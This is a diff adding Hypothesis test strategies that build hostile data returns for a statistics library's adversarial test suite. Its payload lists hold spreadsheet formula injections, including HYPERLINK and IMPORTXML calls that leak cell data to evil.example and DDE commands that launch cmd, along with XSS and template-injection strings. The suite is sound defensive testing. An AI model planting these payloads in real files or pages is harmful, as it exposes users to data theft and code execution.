@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import dataclasses
 import datetime as dt
+import functools
+import math
 from collections.abc import Sequence
+from typing import Any
 
 from hypothesis import strategies as st
 
@@ -697,3 +701,1190 @@ def figure_series(draw: st.DrawFn, max_size: int = 12) -> dict[str, list[float |
         else:
             series[name] = draw(st.lists(figure_numbers, min_size=size, max_size=size))
     return series
+
+
+# --- Hostile input (the adversarial suite, tests/adversarial) ----------------------------------
+#
+# Each strategy below describes a hostile input built on the bundled example (real area
+# names, periods, items and values) and says, for every row it plants, what reading it must
+# give: the exact tidy row, a refusal, or anything. tests/adversarial writes the description
+# to files and holds the library to the promises of docs/security.md.
+
+#: Text a spreadsheet runs as a formula: every trigger character, HYPERLINK and DDE classics.
+FORMULA_PAYLOADS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+3",
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    "+A1",
+    "-A1",
+    "@A1",
+)
+#: Markup payloads: script tags, event handlers, javascript: links, attribute break-outs,
+#: template syntax.
+XSS_PAYLOADS = (
+    "<script>alert('xss-1')</script>",
+    "\"><img src=x onerror=alert('xss-2')>",
+    "<svg onload=alert('xss-3')>",
+    "<a href=\"javascript:alert('xss-4')\">x</a>",
+    "'><iframe src=javascript:alert('xss-5')>",
+    "[x](javascript:alert('xss-6'))",
+    "<IMG SRC=x OnError=alert('xss-7')>",
+    "</textarea><script>alert('xss-8')</script>",
+    "{{ 7*7 }}{% raw %}${7*7}",
+)
+#: Cells no return means as a number: beyond 10^15, overflowing, other scripts' digits, words.
+NUMBER_TRAPS = (
+    "1e16", "1e309", "-1e309", "9" * 400, "NaN", "nan", "inf", "-inf", "Infinity", "0x10",
+    "1_000", "½", "²", "١٢٣", "\uff11\uff12\uff13", "१२३", "۱۲۳", "12,5", "45%", "2024-03-31",
+    "(3)", "#REF!", "#N/A", "TRUE", "1.2.3", "1e", "e5", "--5", "+-5", "5-", "£", "n/a",
+    "\ufeff40", "4\u200b0", "40 people",
+)  # fmt: skip
+#: Odd characters: byte-order marks, zero-width and bidi controls, escapes, other scripts.
+ODD_TEXT = ("\ufeff", "\u200b", "\u202e", "\x1b[31m", "e\u0301", "🎉", "Ñandú", "日本", "\x7f")
+
+#: Any text a person or a tool might put in a cell or a TOML string, hostile or not.
+hostile_texts = st.one_of(
+    st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS),
+    st.text(st.characters(exclude_categories=["Cs"]), max_size=16),
+    st.sampled_from(ODD_TEXT),
+    st.lists(st.sampled_from(FORMULA_PAYLOADS + XSS_PAYLOADS + ODD_TEXT), min_size=2,
+             max_size=4).map("".join),
+)  # fmt: skip
+
+
+def _has_letter(text: str) -> bool:
+    # A letter other than e or E: no number format reads it.
+    return any(c.isalpha() and c not in "eE" for c in text)
+
+
+#: Value cells that must never be read as a number.
+value_traps = st.one_of(
+    st.sampled_from(NUMBER_TRAPS + FORMULA_PAYLOADS + XSS_PAYLOADS),
+    hostile_texts.filter(_has_letter),
+)
+
+
+def tidy_text(text: str) -> str:
+    """A cell as the tidy readers see it: each run of white space one space, trimmed."""
+    import re
+
+    return re.sub(r"[\s\u00a0\u2007\u202f]+", " ", text).strip()
+
+
+def plain_number(value: float) -> str:
+    """``value`` as plain text: no ``.0`` on whole numbers, else the shortest repr."""
+    return str(int(value)) if value.is_integer() else repr(value)
+
+
+def number_spellings(value: float) -> list[str]:
+    """Ways a council writes ``value`` that must all be read as exactly ``value``."""
+    from decimal import Decimal
+
+    plain = plain_number(value)
+    whole, _, fraction = plain.partition(".")
+    spellings = [
+        plain, f" {plain} ", f"{plain}\u00a0", f"'{plain}", f"+{plain}", f"£{plain}", f"0{plain}",
+        f"{Decimal(plain):e}", plain + ("0" if fraction else ".0"),
+    ]  # fmt: skip
+    if abs(value) >= 1000:
+        commas = f"{int(whole):,}" + (f".{fraction}" if fraction else "")
+        spellings += [commas, commas.replace(",", " "), f"£{commas}"]
+    if value.is_integer() and abs(value) >= 1_000_000:
+        spellings.append(f"{int(value):,}".replace(",", "."))
+    return spellings
+
+
+#: A row of the tidy dataset: ``(area, period, item, value, flag)``, value NaN when empty.
+TidyRow = tuple[str, str, str, float, str]
+
+
+@functools.cache
+def example_rows() -> tuple[TidyRow, ...]:
+    """The bundled example dataset, row by row."""
+    import csv
+
+    from outcomes.core._resources import bundled_path
+
+    with (bundled_path("example") / "data.csv").open(encoding="utf-8", newline="") as stream:
+        return tuple(
+            (row["area"], row["period"], row["item"],
+             float(row["value"]) if row["value"] else math.nan, row["flag"])
+            for row in csv.DictReader(stream)
+        )  # fmt: skip
+
+
+@functools.cache
+def example_areas() -> tuple[tuple[str, str, str], ...]:
+    """The bundled example areas as ``(area, name, family_group)``."""
+    import csv
+
+    from outcomes.core._resources import bundled_path
+
+    with (bundled_path("example") / "areas.csv").open(encoding="utf-8", newline="") as stream:
+        return tuple(
+            (row["area"], row["name"], row["family_group"]) for row in csv.DictReader(stream)
+        )
+
+
+def example_block(areas: Sequence[str], first_year: int) -> list[TidyRow]:
+    """The example's rows of ``areas`` for the return year starting in ``first_year``: the
+    split-year label and the calendar year."""
+    labels = {str(first_year), f"{first_year}-{(first_year + 1) % 100:02d}"}
+    return [row for row in example_rows() if row[0] in areas and row[1] in labels]
+
+
+def file_stem(area: str) -> str:
+    """A plain file-name stem for an area (the library's own slug is tested elsewhere)."""
+    return "".join(c if c.isalnum() else "-" for c in area.lower()).strip("-") or "area"
+
+
+#: The columns of the tidy layout, in order.
+TIDY = ("area", "period", "item", "value", "flag")
+#: What a planted row must read as: its own tidy row, a refusal, or anything at all.
+EXACT, REFUSE, ANY = "exact", "refuse", "any"
+_FLAGS = ("provisional", "estimated", "revised", "not_collected")
+
+
+class XlsxFormula(str):
+    """A cell written to a workbook as a formula with no saved result (as a CSV: its text)."""
+
+    __slots__ = ()
+
+
+class ShortRepr:
+    """Shown in Hypothesis' reports by its ``repr``, not field by field (a case has hundreds
+    of rows or megabytes of text)."""
+
+    def _repr_pretty_(self, printer: Any, cycle: bool) -> None:
+        printer.text(repr(self))
+
+
+@dataclasses.dataclass
+class HostileSheet:
+    """One sheet of a hostile return (a CSV file has one, titled ``""``): its records as
+    written, header included; an empty record is an empty row."""
+
+    title: str
+    records: list[list[object]]
+    hidden: bool = False
+
+
+@dataclasses.dataclass
+class HostileFile:
+    """One file of a hostile return. ``damage`` breaks it as it is written: ``truncate``
+    cuts a workbook in half, ``utf16`` writes a CSV as UTF-16, ``double_bom`` puts a second
+    byte-order mark before the header, ``empty`` writes no bytes at all."""
+
+    name: str
+    kind: str
+    sheets: list[HostileSheet]
+    encoding: str = "utf-8"
+    newline: str = "\n"
+    damage: str = ""
+
+
+@dataclasses.dataclass
+class PlantedRow:
+    """A data row as planted: where it is (file, sheet, row as a person sees it), the tidy
+    row it holds, and what reading it must give (:data:`EXACT`, :data:`REFUSE`, :data:`ANY`)."""
+
+    file: str
+    sheet: str
+    row: int
+    area: str
+    period: str
+    item: str
+    value: float
+    flag: str
+    expect: str
+    fault: str = ""
+
+
+@dataclasses.dataclass
+class HostileReturn(ShortRepr):
+    """The files of one return in the tidy layout, every data row planted in them, the faults
+    planted, whether they must make validation refuse the return, and whether validation is
+    given the areas file."""
+
+    files: list[HostileFile]
+    rows: list[PlantedRow]
+    faults: list[str]
+    must_refuse: bool
+    with_areas: bool
+
+    def __repr__(self) -> str:
+        # Short: the planted faults and where they are, not the hundred rows.
+        faulty = [(r.file, r.sheet, r.row, r.fault, r.expect) for r in self.rows if r.fault]
+        files = [(f.name, f.encoding, repr(f.newline), f.damage) for f in self.files]
+        return (f"HostileReturn(files={files}, faults={self.faults}, planted={faulty}, "
+                f"must_refuse={self.must_refuse}, with_areas={self.with_areas})")  # fmt: skip
+
+
+@dataclasses.dataclass
+class _Draft:
+    """A row of a return being built: its cells, the tidy row it stands for, where it goes
+    (file, sheet), and what reading it must give."""
+
+    cells: dict[str, object]
+    truth: TidyRow
+    place: tuple[int, int]
+    expect: str = EXACT
+    fault: str = ""
+    tail: bool = False
+
+
+_RETURN_ROW_FAULTS = (
+    "value_trap", "value_empty", "value_negative", "value_not_collected", "value_formula",
+    "value_date", "value_bool", "flag_trap", "area_trap", "period_trap", "item_trap",
+    "duplicate_row", "dropped_row", "garbage_row", "conflict", "agreeing_copy",
+)  # fmt: skip
+_RETURN_SHEET_FAULTS = (
+    "missing_column", "duplicate_column", "no_flag_column", "extra_column", "header_spelling",
+    "blank_rows", "leading_blank_rows", "title_row", "numeric_cells", "hostile_sheet_title",
+)  # fmt: skip
+_RETURN_FILE_FAULTS = ("double_bom", "cp1252", "crlf", "cr", "bom", "utf16", "truncate",
+                       "empty_file", "instructions_sheet", "hidden_sheet",
+                       "hidden_sheet")  # fmt: skip
+_BAD_PERIODS = ("2024-26", "24/25", "FY2024", "\uff12\uff10\uff12\uff14-\uff12\uff15",
+                "2024/25", "2024-2025", "0-01")  # fmt: skip
+
+
+def xlsx_safe(text: str) -> str:
+    """``text`` without the control characters XML 1.0 cannot hold (no workbook carries
+    them: openpyxl refuses to write them)."""
+    return "".join(c for c in text if not ("\x00" <= c < " " and c not in "\t\n\r"))
+
+
+def _is_flag(text: str) -> bool:
+    """Whether a flag cell reads as a flag or as no flag at all."""
+    return tidy_text(text).lower().removeprefix("'") in ("", *_FLAGS)
+
+
+def _forms(text: str) -> tuple[str, str]:
+    """A cell's text as a CSV holds it and as a workbook can (without XML's control
+    characters): a fault must be one in both."""
+    return text, xlsx_safe(text)
+
+
+def _plant_cell(draw: st.DrawFn, fault: str, row: _Draft, *, with_areas: bool) -> str | None:
+    """Plant a fault in one cell of ``row``; what reading the row must then give, or None
+    when the fault does not fit the row."""
+    from outcomes import parse_period
+    from outcomes.errors import PeriodError
+
+    area, period, item, value, _flag = row.truth
+    cells = row.cells
+    expect = REFUSE
+    if fault == "value_trap":
+        cells["value"] = draw(value_traps)
+    elif fault == "value_empty":
+        cells["value"], cells["flag"] = draw(st.sampled_from(["", " ", "'"])), ""
+    elif fault == "value_negative" and value > 0:
+        cells["value"] = f"-{plain_number(value)}"
+    elif fault == "value_not_collected":
+        cells["flag"] = "not_collected"
+    elif fault == "value_formula":
+        cells["value"] = XlsxFormula(draw(st.sampled_from(["=1+1", "=SUM(A1:A3)", "=1/0"])))
+    elif fault == "value_date":
+        cells["value"] = dt.datetime(int(period[:4]), 3, 31)
+    elif fault == "value_bool":
+        cells["value"] = draw(st.booleans())
+    elif fault == "flag_trap":
+        cells["flag"] = draw(hostile_texts.filter(lambda t: not any(map(_is_flag, _forms(t)))))
+    elif fault == "area_trap":
+        text = draw(hostile_texts.filter(lambda t: all(tidy_text(f) != area for f in _forms(t))))
+        cells["area"] = text
+        known = {known_area for known_area, _, _ in example_areas()}
+        unknown = all(tidy_text(form) not in known for form in _forms(text))
+        expect = REFUSE if with_areas and unknown else ANY
+    elif fault == "period_trap":
+        cells["period"] = text = draw(st.one_of(hostile_texts, st.sampled_from(_BAD_PERIODS)))
+        for form in _forms(text):
+            try:
+                parse_period(tidy_text(form))
+            except PeriodError:
+                continue
+            expect = ANY  # another real period: a different row, judged on its own
+    elif fault == "item_trap":
+        text = draw(st.one_of(hostile_texts, st.just(item[:-1]), st.just(item.upper())))
+        cells["item"] = text
+        if any(tidy_text(form) in load_catalogue().items for form in _forms(text)):
+            expect = ANY
+    else:
+        return None
+    return expect
+
+
+def _plant_row_fault(
+    draw: st.DrawFn, fault: str, row: _Draft, *, drafts: list[_Draft],
+    places: list[tuple[int, int]], with_areas: bool,
+) -> bool:  # fmt: skip
+    """Plant ``fault`` in ``row`` or beside it; whether a row was dropped."""
+    if row.fault or (fault.startswith("value") and math.isnan(row.truth[3])):
+        return False  # one fault a row; value faults only where there is a value
+    if fault in ("duplicate_row", "conflict", "agreeing_copy"):
+        copy = dataclasses.replace(row, cells=dict(row.cells), fault=fault, tail=True)
+        if fault == "conflict":
+            copy.cells["value"] = plain_number(row.truth[3] + 1)
+            others = [place for place in places if place != row.place]
+            copy.place = draw(st.sampled_from(others)) if others else (-1, 0)
+            copy.expect = row.expect = REFUSE
+        elif fault == "duplicate_row":
+            copy.expect = REFUSE
+        else:
+            others = [place for place in places if place[0] != row.place[0]]
+            copy.place = draw(st.sampled_from(others)) if others else row.place
+            copy.expect = EXACT if others else REFUSE
+        # The row keeps its key from now on, so that the copy stays a copy.
+        row.fault = row.fault or f"copied ({fault})"
+        drafts.append(copy)
+    elif fault == "dropped_row":
+        if all(other is row or other.truth[:3] != row.truth[:3] for other in drafts):
+            drafts.remove(row)
+            return True
+    elif fault == "garbage_row":
+        garbage = draw(st.lists(hostile_texts, min_size=3, max_size=7))
+        garbage[2] = "x" + garbage[2]  # never a real item
+        drafts.append(_Draft(cells=dict(zip([*TIDY, "notes"], garbage, strict=False)),
+                             truth=("", "", "", math.nan, ""), place=row.place, expect=REFUSE,
+                             fault=fault, tail=True))  # fmt: skip
+    else:
+        expect = _plant_cell(draw, fault, row, with_areas=with_areas)
+        if expect is not None:
+            row.expect, row.fault = expect, fault
+    return False
+
+
+def _header(draw: st.DrawFn, columns: list[str], faults: list[str]) -> list[str]:
+    header = list(columns)
+    if "missing_column" in faults:
+        gone = draw(st.sampled_from([c for c in TIDY[:4] if c in columns]))
+        header[columns.index(gone)] = draw(st.sampled_from(["", "valeu", "Area code", gone + "s"]))
+    if "header_spelling" in faults:
+        header = [draw(st.sampled_from([h, h.upper(), f" {h.title()} ", f"{h}\u00a0"]))
+                  for h in header]  # fmt: skip
+    return header
+
+
+def _cells_as_written(
+    file: HostileFile, draft: _Draft, columns: list[str], numeric: bool
+) -> list[object]:
+    written = [draft.cells.get(column, "") for column in columns]
+    if file.kind == "csv":
+        return [cell if isinstance(cell, str) else str(cell) for cell in written]
+    written = [
+        c if isinstance(c, XlsxFormula) or not isinstance(c, str) else xlsx_safe(c) for c in written
+    ]
+    value = draft.truth[3]
+    if numeric and "value" in columns and not draft.fault and not math.isnan(value):
+        written[columns.index("value")] = int(value) if value.is_integer() else value
+    return written
+
+
+def _sheet_records(
+    draw: st.DrawFn, file: HostileFile, sheet: HostileSheet, drafts: list[_Draft],
+    *, faults: list[str], title: str,
+) -> tuple[list[list[object]], list[PlantedRow]]:  # fmt: skip
+    """Lay out one sheet: its header (with the sheet's faults) and its rows, each numbered
+    as a person sees it."""
+    columns = list(TIDY)
+    if "double_bom" not in faults and draw(st.integers(0, 3)) == 0:
+        columns = list(draw(st.permutations(columns)))
+    if "no_flag_column" in faults:
+        columns.remove("flag")
+    header = _header(draw, columns, faults)
+    if "duplicate_column" in faults:
+        named = [c for c, h in zip(columns, header, strict=True) if tidy_text(h).lower() == c]
+        columns.append(draw(st.sampled_from(named)))
+        header.append(columns[-1].upper())
+    if "extra_column" in faults:
+        columns.append("notes")
+        name = draw(hostile_texts.filter(lambda h: tidy_text(h).lower() not in TIDY))
+        header.append(name or "notes")
+        for draft in drafts:
+            draft.cells["notes"] = draw(hostile_texts)
+    if file.kind == "xlsx":
+        header = [xlsx_safe(name) for name in header]
+    records: list[list[object]] = []
+    if "leading_blank_rows" in faults:
+        records += [[] for _ in range(draw(st.integers(1, 3)))]
+    if "title_row" in faults:
+        records += [[f"Return for {title}"], []]
+    records.append(list(header))
+    planted: list[PlantedRow] = []
+    for draft in drafts:
+        if "blank_rows" in faults and draw(st.integers(0, 9)) == 0:
+            records.append([])
+        records.append(_cells_as_written(file, draft, columns, "numeric_cells" in faults))
+        area, period, item, value, flag = draft.truth
+        expect = draft.expect
+        if "no_flag_column" in faults:
+            flag = ""
+            if draft.fault in ("flag_trap", "value_not_collected"):
+                expect = EXACT  # the fault was in the column that is not there
+            if math.isnan(value) and expect == EXACT:
+                expect = REFUSE  # not collected, but the flag that says so is gone
+        planted.append(PlantedRow(file=file.name, sheet=sheet.title, row=len(records),
+                                  area=area, period=period, item=item, value=value, flag=flag,
+                                  expect=expect, fault=draft.fault))  # fmt: skip
+    return records, planted
+
+
+def _sheet_title(draw: st.DrawFn, file: HostileFile) -> str | None:
+    """A hostile sheet title a workbook can hold, or None."""
+    title = xlsx_safe("".join(c for c in draw(hostile_texts) if c not in "[]:*?/\\'"))
+    title = title[:31].strip()
+    taken = {sheet.title.lower() for sheet in file.sheets} | {"instructions", "history"}
+    return title if title and title.lower() not in taken else None
+
+
+@st.composite
+def hostile_returns(draw: st.DrawFn) -> HostileReturn:
+    """A return of one or two real areas for a real year in the tidy layout, spread over
+    CSV and XLSX files and sheets, spelled in the ways councils spell things, with faults
+    planted in rows, sheets and files (sometimes none)."""
+    areas_table = example_areas()
+    year = draw(st.integers(min_value=2016, max_value=2024))
+    chosen = draw(st.lists(st.sampled_from([a for a, _, _ in areas_table]), min_size=1,
+                           max_size=2, unique=True))  # fmt: skip
+    with_areas = draw(st.booleans())
+    every = _RETURN_ROW_FAULTS + _RETURN_SHEET_FAULTS + _RETURN_FILE_FAULTS
+    faults = draw(st.lists(st.sampled_from(every), max_size=4))
+
+    files: list[HostileFile] = []
+    for n in range(draw(st.integers(min_value=1, max_value=3))):
+        kind = draw(st.sampled_from(["csv", "xlsx"]))
+        count = draw(st.integers(min_value=1, max_value=2)) if kind == "xlsx" else 1
+        titles = [""] if kind == "csv" else ["Return", "Return 2"][:count]
+        sheets = [HostileSheet(title=title, records=[]) for title in titles]
+        files.append(HostileFile(name=f"{file_stem(chosen[0])}-{n + 1}.{kind}", kind=kind,
+                                 sheets=sheets))  # fmt: skip
+    places = [(f, s) for f, file in enumerate(files) for s in range(len(file.sheets))]
+    # A hidden sheet holding the whole return of the second area: read like any other sheet.
+    hidden: tuple[int, int] | None = None
+    if "hidden_sheet" in faults:
+        others = [a for a, _, _ in areas_table if a not in chosen]
+        chosen = [chosen[0], draw(st.sampled_from(others))] if len(chosen) == 1 else chosen
+        if files[0].kind == "csv":  # one sheet either way, so the places stay
+            files[0] = HostileFile(name=files[0].name.replace(".csv", ".xlsx"), kind="xlsx",
+                                   sheets=[HostileSheet("Return", [])])  # fmt: skip
+    workbooks = [f for f, file in enumerate(files) if file.kind == "xlsx"]
+    if "hidden_sheet" in faults and workbooks:
+        sheets = files[workbooks[0]].sheets
+        sheets.append(HostileSheet(title="Lookup", records=[], hidden=True))
+        hidden = (workbooks[0], len(sheets) - 1)
+
+    drafts: list[_Draft] = []
+    for area, period, item, value, flag in example_block(chosen, year):
+        spelled_flag = draw(st.sampled_from([flag, flag.upper(), f" {flag.title()} "]))
+        cells: dict[str, object] = {
+            "area": draw(st.sampled_from([area, area, f" {area} ", area.replace(" ", "\u00a0")])),
+            "period": draw(st.sampled_from([period, period, f"{period} "])),
+            "item": draw(st.sampled_from([item, item, f" {item}"])),
+            "value": draw(st.sampled_from(["", "'", "  "] if math.isnan(value)
+                                          else number_spellings(value))),
+            "flag": spelled_flag if flag else "",
+        }  # fmt: skip
+        place = hidden if hidden and area == chosen[1] else draw(st.sampled_from(places))
+        drafts.append(_Draft(cells=cells, truth=(area, period, item, value, flag), place=place))
+    drafts = list(draw(st.permutations(drafts)))
+    at_sheet: dict[tuple[int, int], list[str]] = {}
+    at_file: dict[int, list[str]] = {}
+    dropped = False
+    for fault in faults:
+        if fault in _RETURN_SHEET_FAULTS:
+            at_sheet.setdefault(draw(st.sampled_from(places)), []).append(fault)
+        elif fault in _RETURN_FILE_FAULTS:
+            at_file.setdefault(draw(st.integers(0, len(files) - 1)), []).append(fault)
+        elif visible := [d for d in drafts if d.place != hidden]:
+            target = visible[draw(st.integers(0, len(visible) - 1))]
+            dropped |= _plant_row_fault(draw, fault, target, drafts=drafts, places=places,
+                                        with_areas=with_areas)  # fmt: skip
+    if any(draft.place == (-1, 0) for draft in drafts):
+        files.append(HostileFile(name=f"{file_stem(chosen[0])}-conflict.csv", kind="csv",
+                                 sheets=[HostileSheet(title="", records=[])]))  # fmt: skip
+        for draft in drafts:
+            if draft.place == (-1, 0):
+                draft.place = (len(files) - 1, 0)
+
+    planted: list[PlantedRow] = []
+    must_refuse = dropped  # a missing item
+    for f, file in enumerate(files):
+        file_faults = at_file.get(f, [])
+        for s, sheet in enumerate(file.sheets):
+            sheet_faults = at_sheet.get((f, s), []) + file_faults
+            if "hostile_sheet_title" in sheet_faults and file.kind == "xlsx":
+                sheet.title = _sheet_title(draw, file) or sheet.title
+            here = [d for d in drafts if d.place == (f, s) and not d.tail]
+            here += [d for d in drafts if d.place == (f, s) and d.tail]
+            sheet.records, rows = _sheet_records(draw, file, sheet, here, faults=sheet_faults,
+                                                 title=chosen[0])  # fmt: skip
+            planted += rows
+            must_refuse |= any(fault in sheet_faults for fault in
+                               ("missing_column", "duplicate_column", "title_row"))  # fmt: skip
+        if file.kind == "csv":
+            if "cp1252" in file_faults and _encodes(file, "cp1252"):
+                file.encoding = "cp1252"
+            if "bom" in file_faults:
+                file.encoding = "utf-8-sig"
+            newlines = [n for fault, n in (("crlf", "\r\n"), ("cr", "\r")) if fault in file_faults]
+            file.newline = newlines[0] if newlines else "\n"
+            for damage in ("double_bom", "utf16"):
+                if damage in file_faults:
+                    file.damage = damage
+            # A NUL makes a CSV binary data, refused as a whole.
+            must_refuse |= any("\x00" in str(cell) for sheet in file.sheets
+                               for record in sheet.records for cell in record)  # fmt: skip
+        elif "truncate" in file_faults:
+            file.damage = "truncate"
+        elif "instructions_sheet" in file_faults:
+            records: list[list[object]] = [
+                [xlsx_safe(text) for text in draw(st.lists(hostile_texts, max_size=5))]
+                for _ in range(3)
+            ]
+            file.sheets.append(HostileSheet(title="Instructions", records=records))
+        if "empty_file" in file_faults:
+            file.damage = "empty"
+        must_refuse |= file.damage != ""
+    must_refuse |= any(row.expect == REFUSE for row in planted)
+    # A key changed to another real one leaves the row's own item missing from its block.
+    must_refuse |= any(d.fault in ("area_trap", "period_trap", "item_trap") for d in drafts)
+    return HostileReturn(files=files, rows=planted, faults=faults, must_refuse=must_refuse,
+                         with_areas=with_areas)  # fmt: skip
+
+
+def _encodes(file: HostileFile, encoding: str) -> bool:
+    try:
+        for sheet in file.sheets:
+            for record in sheet.records:
+                for cell in record:
+                    str(cell).encode(encoding)
+    except UnicodeEncodeError:
+        return False
+    return True
+
+
+# --- Hostile tidy datasets ---------------------------------------------------------------------
+
+
+@dataclasses.dataclass
+class FaultyDataset(ShortRepr):
+    """A tidy ``data.csv`` with faults (its text, encoding and every data row planted, in file
+    ``data.csv``), and how it is computed: the areas table (None for none), deflators, the
+    base period, the confidence and the suppression threshold."""
+
+    text: str
+    encoding: str
+    rows: list[PlantedRow]
+    areas: list[tuple[str, str, str]] | None
+    deflators: dict[str, float] | None
+    base_period: str | None
+    confidence: float
+    suppress_below: int | None
+    faults: list[str]
+
+    def __repr__(self) -> str:
+        faulty = [(r.row, r.area, r.period, r.item, r.fault) for r in self.rows if r.fault][:20]
+        return (f"FaultyDataset(faults={self.faults}, planted={faulty}, rows={len(self.rows)}, "
+                f"areas={self.areas!r:.300}, deflators={self.deflators is not None}, "
+                f"base_period={self.base_period!r}, confidence={self.confidence}, "
+                f"suppress_below={self.suppress_below}, encoding={self.encoding!r})")  # fmt: skip
+
+
+_DATASET_FAULTS = (
+    "value_trap", "zero_row", "zero_item", "numerator_above", "negative", "huge_row",
+    "huge_item", "tiny", "tiny", "tiny", "zero_row", "huge_row", "drop_rows", "drop_item",
+    "not_collected", "duplicate_row",
+    "unknown_item", "reserved_area", "payload_area", "wrong_period_kind", "bad_period",
+    "flag_trap", "missing_column", "duplicate_column", "extra_column", "header_spelling",
+    "bom", "crlf", "cp1252", "single_row", "all_zero",
+)  # fmt: skip
+
+
+@functools.cache
+def proportion_items() -> tuple[tuple[str, str], ...]:
+    """``(numerator, denominator)`` of every proportion indicator of the bundled catalogue."""
+    return tuple(
+        (indicator.numerator, indicator.denominator)
+        for indicator in load_catalogue().indicators
+        if indicator.measure.value == "proportion" and indicator.denominator
+    )
+
+
+@functools.cache
+def denominator_items() -> frozenset[str]:
+    """The items some indicator of the bundled catalogue divides by."""
+    return frozenset(i.denominator for i in load_catalogue().indicators if i.denominator)
+
+
+def _dataset_value_fault(draw: st.DrawFn, fault: str, rows: list[_Draft]) -> None:
+    """Plant a fault in the values of ``rows`` (each row's truth follows its new cell)."""
+    if not rows:
+        return
+    row = draw(st.sampled_from(rows))
+    denominators = [r for r in rows if r.truth[2] in denominator_items()]
+    if fault in ("tiny", "zero_row", "huge_row") and denominators and draw(st.booleans()):
+        row = draw(st.sampled_from(denominators))  # where a division would be by it
+    area, period, item, _value, _flag = row.truth
+    if fault == "value_trap":
+        row.cells["value"], row.expect, row.fault = draw(value_traps), REFUSE, fault
+        return
+    if fault in ("zero_item", "huge_item"):
+        text = "0" if fault == "zero_item" else draw(st.sampled_from(["1e15", "999999999999999"]))
+        targets = [r for r in rows if r.truth[2] == item]
+    elif fault == "all_zero":
+        text, targets = "0", rows
+    elif fault == "numerator_above":
+        numerator, denominator = draw(st.sampled_from(proportion_items()))
+        same = {r.truth[2]: r for r in rows if r.truth[:2] == (area, period)}
+        if numerator not in same or denominator not in same:
+            return
+        below = same[denominator].truth[3]
+        text = plain_number((0.0 if math.isnan(below) else below) + draw(st.integers(1, 10**6)))
+        targets = [same[numerator]]
+    else:
+        text = {"zero_row": "0", "negative": "-5", "huge_row": "999999999999999"}.get(fault, "")
+        text = text or draw(st.sampled_from(["5e-324", "1e-310", "1e-300", "0.000001"]))
+        targets = [row]
+    for target in targets:
+        a, p, i, _, f = target.truth
+        target.cells["value"] = text
+        target.truth = (a, p, i, float(text), "" if f == "not_collected" else f)
+        target.cells["flag"] = target.truth[4]
+        target.fault = target.fault or fault
+
+
+def _dataset_row_fault(draw: st.DrawFn, fault: str, rows: list[_Draft]) -> list[_Draft]:
+    """Plant a fault that adds, drops, renames or breaks rows; the rows afterwards."""
+    if not rows:
+        return rows
+    row = draw(st.sampled_from(rows))
+    area, period, item, value, flag = row.truth
+    after = rows
+    if fault == "drop_rows":
+        after = [r for r in rows if draw(st.integers(0, 9)) > 0]
+    elif fault == "drop_item":
+        after = [r for r in rows if r.truth[2] != item]
+    elif fault == "single_row":
+        after = [row]
+    elif fault == "duplicate_row":
+        after = [*rows, dataclasses.replace(row, cells=dict(row.cells), expect=REFUSE, fault=fault)]
+    elif fault == "unknown_item":
+        extra = _Draft(cells={**row.cells, "item": "not_an_item"}, place=(0, 0),
+                       truth=(area, period, "not_an_item", value, flag), fault=fault)  # fmt: skip
+        after = [*rows, extra]
+    elif fault in ("reserved_area", "payload_area"):
+        reserved = ["Scotland", "family_group:People 1"]
+        name = draw(st.sampled_from(reserved if fault == "reserved_area" else _AREA_PAYLOADS))
+        for r in rows:
+            if r.truth[0] == area:
+                r.cells["area"] = name
+                r.truth = (tidy_text(name), *r.truth[1:])
+                r.expect, r.fault = ANY, fault
+    elif fault == "not_collected":
+        row.cells["value"], row.cells["flag"] = "", "not_collected"
+        row.truth = (area, period, item, math.nan, "not_collected")
+    elif fault == "wrong_period_kind":
+        other = period[:4] if "-" in period else f"{period}-{(int(period) + 1) % 100:02d}"
+        if all(r.truth[:3] != (area, other, item) for r in rows):
+            row.cells["period"] = other
+            row.truth = (area, other, item, value, flag)
+    elif fault == "bad_period":
+        row.cells["period"], row.expect = draw(st.sampled_from(_BAD_PERIODS)), REFUSE
+    elif fault == "flag_trap":
+        row.cells["flag"] = draw(hostile_texts.filter(lambda t: not _is_flag(t)))
+        row.expect = REFUSE
+    row.fault = row.fault or fault
+    return after
+
+
+@st.composite
+def faulty_datasets(draw: st.DrawFn) -> FaultyDataset:
+    """A tidy dataset of a few real areas over a few real years, spelled as written by people
+    and tools, with faults planted in its values, rows, header and encoding."""
+    from outcomes import parse_period
+
+    names = [area for area, _, _ in example_areas()]
+    chosen = draw(st.lists(st.sampled_from(names), min_size=1, max_size=5, unique=True))
+    first = draw(st.integers(min_value=2015, max_value=2024))
+    years = range(first, min(2024, first + draw(st.integers(0, 5))) + 1)
+    labels = {label for y in years for label in (str(y), f"{y}-{(y + 1) % 100:02d}")}
+    faults = draw(st.lists(st.sampled_from(_DATASET_FAULTS), max_size=5))
+    rows = [
+        _Draft(cells={"area": area, "period": period, "item": item,
+                      "value": "" if math.isnan(value) else draw(st.sampled_from(
+                          [plain_number(value), *number_spellings(value)[:3]])),
+                      "flag": flag}, truth=(area, period, item, value, flag), place=(0, 0))
+        for area, period, item, value, flag in example_rows()
+        if area in chosen and period in labels
+    ]  # fmt: skip
+    for fault in faults:
+        if fault in ("value_trap", "zero_row", "zero_item", "numerator_above", "negative",
+                     "huge_row", "huge_item", "tiny", "all_zero"):  # fmt: skip
+            _dataset_value_fault(draw, fault, rows)
+        else:
+            rows = _dataset_row_fault(draw, fault, rows)
+    columns = list(TIDY)
+    header = list(columns)
+    if "missing_column" in faults:
+        header[draw(st.integers(0, 3))] = "x"
+    if "duplicate_column" in faults:
+        columns.append(draw(st.sampled_from(TIDY)))
+        header.append(columns[-1])
+    if "extra_column" in faults:
+        columns.append("notes")
+        header.append("notes")
+    if "header_spelling" in faults:
+        header = [draw(st.sampled_from([h, h.upper(), f" {h} "])) for h in header]
+    newline = "\r\n" if "crlf" in faults else "\n"
+    lines = [",".join(csv_field(h) for h in header)]
+    planted: list[PlantedRow] = []
+    for row in rows:
+        lines.append(",".join(csv_field(str(row.cells.get(c, "=1+1"))) for c in columns))
+        area, period, item, value, flag = row.truth
+        planted.append(PlantedRow(file="data.csv", sheet="", row=len(lines), area=area,
